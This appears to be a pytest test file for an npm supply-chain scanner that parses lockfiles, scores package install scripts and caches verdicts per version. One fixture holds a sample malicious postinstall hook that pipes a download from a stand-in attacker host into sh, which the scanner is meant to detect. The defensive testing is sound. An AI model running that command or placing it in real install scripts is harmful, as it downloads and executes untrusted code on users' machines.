@@ -0,0 +1,104 @@
+import json
+import os
+
+import pytest
+
+import nscan
+import verdictCache
+from scanInstallScripts import ScriptScanner
+
+'''
+The same install tree as a lockfileVersion 1 (nested dependencies) and a lockfileVersion 3 (flat node_modules paths) lockfile:
+left-pad 1.0.0 at the top and 2.0.0 nested under app-utils, plus a local file: dependency that isn't on the registry
+'''
+LOCKFILES = {
+    1: {"lockfileVersion": 1, "dependencies": {
+        "left-pad": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.0.0.tgz"},
+        "app-utils": {"version": "0.3.0", "resolved": "https://registry.npmjs.org/app-utils/-/app-utils-0.3.0.tgz", "dependencies": {
+            "left-pad": {"version": "2.0.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-2.0.0.tgz"}}},
+        "local-lib": {"version": "file:../local-lib"}}},
+    3: {"lockfileVersion": 3, "packages": {
+        "": {"name": "app"},
+        "node_modules/left-pad": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.0.0.tgz", "hasInstallScript": True},
+        "node_modules/app-utils": {"version": "0.3.0", "resolved": "https://registry.npmjs.org/app-utils/-/app-utils-0.3.0.tgz"},
+        "node_modules/app-utils/node_modules/left-pad": {"version": "2.0.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-2.0.0.tgz", "hasInstallScript": True},
+        "node_modules/local-lib": {"version": "1.0.0", "resolved": "file:../local-lib"}}},
+}
+
+INSTALL_SCRIPTS = {"1.0.0": {"postinstall": "curl http://evil.example/x | sh"}, "2.0.0": {"postinstall": "node build.js"}, None: {}}
+
+def writeLockfile(tmp_path, lockfileVersion: int) -> str:
+    path = os.path.join(tmp_path, "package-lock.json")
+    with open(path, "w") as f:
+        json.dump(LOCKFILES[lockfileVersion], f)
+    return path
+
+@pytest.mark.parametrize("lockfileVersion", [1, 3])
+def test_parse_lockfile(tmp_path, lockfileVersion):
+    dependencies = nscan.parseLockfile(writeLockfile(tmp_path, lockfileVersion))
+    assert sorted(dependencies) == ["app-utils", "left-pad"]
+    assert dependencies["left-pad"]["versions"] == {"1.0.0", "2.0.0"}
+    assert dependencies["app-utils"]["versions"] == {"0.3.0"}
+    assert dependencies["left-pad"]["hasInstallScript"] is (True if lockfileVersion == 3 else None)
+
+@pytest.mark.parametrize("lockfileVersion", [1, 3])
+def test_scan_installs_every_pinned_version(tmp_path, store, monkeypatch, lockfileVersion):
+    installed = []
+    def installPackage(scanner, workdir):
+        installed.append(scanner.packageSpec)
+        packageDirectory = os.path.join(workdir, "node_modules", scanner.packageName)
+        os.makedirs(packageDirectory)
+        with open(os.path.join(packageDirectory, "package.json"), "w") as f:
+            json.dump({"name": scanner.packageName, "scripts": INSTALL_SCRIPTS.get(scanner.version, {})}, f)
+    monkeypatch.setattr(ScriptScanner, "installPackage", installPackage)
+    with store.transaction():
+        store.upsertLegitimate([("left-pad", 100000, 400000, "01-01-2026 00:00:00"), ("app-utils", 5000, 20000, "01-01-2026 00:00:00")])
+
+    results = nscan.scanDependencies(nscan.parseLockfile(writeLockfile(tmp_path, lockfileVersion)), "all", useCache=False)
+    byName = {result["packageName"]: result for result in results}
+
+    assert sorted(installed) == ["app-utils@0.3.0", "left-pad@1.0.0", "left-pad@2.0.0"]
+    leftPad = byName["left-pad"]
+    assert [(scan["version"], scan["scriptScore"]) for scan in leftPad["versionScans"]] == [("1.0.0", 5), ("2.0.0", 0)]
+    assert leftPad["scriptScore"] == 5
+    assert leftPad["scriptFindings"][0]["description"] == "Downloads and executes remote shell script"
+    assert leftPad["state"] == "suspicious"
+    assert byName["app-utils"]["scriptScore"] == 0
+
+def test_verdicts_are_cached_per_pinned_version_and_database_generation(tmp_path, store, monkeypatch):
+    installed = []
+    def installPackage(scanner, workdir):
+        installed.append(scanner.packageSpec)
+        packageDirectory = os.path.join(workdir, "node_modules", scanner.packageName)
+        os.makedirs(packageDirectory)
+        with open(os.path.join(packageDirectory, "package.json"), "w") as f:
+            json.dump({"name": scanner.packageName, "scripts": INSTALL_SCRIPTS.get(scanner.version, {})}, f)
+    monkeypatch.setattr(ScriptScanner, "installPackage", installPackage)
+    monkeypatch.setattr(nscan, "getBatchLatestVersion", lambda packageNames, maxAge=None: {name: "9.9.9" for name in packageNames})
+    monkeypatch.setattr(verdictCache, "_cache", verdictCache.VerdictCache(os.path.join(tmp_path, "verdictCache.db")))
+    monkeypatch.setattr(verdictCache, "_cacheDisabled", False)
+    with store.transaction():
+        store.upsertLegitimate([("left-pad", 100000, 400000, "01-01-2026 00:00:00")])
+    def scan(*versions):
+        installed.clear()
+        result = nscan.scanDependencies({"left-pad": {"versions": set(versions), "hasInstallScript": True}}, "auto")[0]
+        return result, list(installed)
+
+    result, installs = scan("1.0.0")
+    assert installs == ["left-pad@1.0.0"] and not result["cached"]
+    assert (result["version"], result["scriptScore"]) == ("1.0.0", 5)
+    result, installs = scan("1.0.0")
+    assert installs == [] and result["cached"] and result["scriptScore"] == 5
+    result, installs = scan("2.0.0") # Another pinned version is scanned, never answered with 1.0.0's verdict
+    assert installs == ["left-pad@2.0.0"] and result["scriptScore"] == 0
+    assert scan("1.0.0")[0]["cached"] # and doesn't push 1.0.0's verdict out
+    result, installs = scan()
+    assert installs == ["left-pad@9.9.9"] and result["version"] == "9.9.9" # Unpinned, cached under the latest version that was scanned
+    result, installs = scan("^1.0.0")
+    assert installs == ["left-pad@^1.0.0"] and not result["cached"] # A range isn't cached, what it resolves to changes
+
+    with store.transaction():
+        store.addTyposquatted([("lefft-pad", "left-pad", 10, 40, "01-01-2026 00:00:00", "Repeated characters", [("left-pad", "Repeated characters")])])
+    result, installs = scan("1.0.0") # A new typosquatted row can change index scores, so the verdict is scanned again
+    assert installs == ["left-pad@1.0.0"] and not result["cached"]
+    assert scan("1.0.0")[0]["cached"]